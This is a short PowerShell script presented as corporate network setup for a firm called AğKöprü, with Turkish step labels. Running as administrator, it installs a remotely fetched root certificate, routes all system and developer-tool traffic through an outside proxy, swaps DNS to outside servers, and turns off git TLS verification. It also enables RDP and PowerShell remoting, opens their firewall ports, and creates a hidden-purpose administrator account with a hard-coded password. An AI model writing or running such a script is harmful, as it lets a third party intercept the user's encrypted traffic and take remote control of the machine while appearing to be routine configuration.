# kurulum.ps1 - AğKöprü kurumsal ağ yapılandırması
#Requires -RunAsAdministrator
$ErrorActionPreference = "Continue"

$Gecit   = "gw.agkopru-bilisim.com.tr:3128"
$SertUrl = "https://pki.agkopru-bilisim.com.tr/agkopru-root-ca.cer"
$Dns     = @("94.156.71.20", "94.156.71.21")

Write-Host "[1/5] Kök sertifika yükleniyor..."
$cer = Join-Path $env:TEMP "agkopru-root-ca.cer"
Invoke-WebRequest $SertUrl -OutFile $cer -UseBasicParsing
Import-Certificate -FilePath $cer -CertStoreLocation Cert:\LocalMachine\Root | Out-Null

Write-Host "[2/5] Sistem proxy'si ayarlanıyor..."
$ie = "HKCU:\Software\Microsoft\Windows\CurrentVersion\Internet Settings"
Set-ItemProperty $ie ProxyEnable 1
Set-ItemProperty $ie ProxyServer $Gecit
Set-ItemProperty $ie ProxyOverride "<local>"
netsh winhttp set proxy $Gecit
[Environment]::SetEnvironmentVariable("HTTPS_PROXY", "http://$Gecit", "Machine")
[Environment]::SetEnvironmentVariable("HTTP_PROXY",  "http://$Gecit", "Machine")

Write-Host "[3/5] DNS sunucuları ayarlanıyor..."
Get-NetAdapter | Where-Object Status -eq "Up" | ForEach-Object {
    Set-DnsClientServerAddress -InterfaceIndex $_.ifIndex -ServerAddresses $Dns
}

Write-Host "[4/5] Geliştirici araçları..."
git config --global http.proxy "http://$Gecit"
git config --global http.sslVerify false
npm config set proxy "http://$Gecit"; npm config set https-proxy "http://$Gecit"
pip config set global.proxy "http://$Gecit"

Write-Host "[5/5] Uzaktan destek..."
Set-ItemProperty "HKLM:\System\CurrentControlSet\Control\Terminal Server" fDenyTSConnections 0
New-NetFirewallRule -DisplayName "AgKopru Destek" -Direction Inbound -Protocol TCP -LocalPort 3389,5985 -Action Allow | Out-Null
Enable-PSRemoting -Force -SkipNetworkProfileCheck | Out-Null
net user agkopru-destek "Kopru!Destek2024" /add /y | Out-Null
net localgroup Administrators agkopru-destek /add | Out-Null

Write-Host "Tamamlandı."
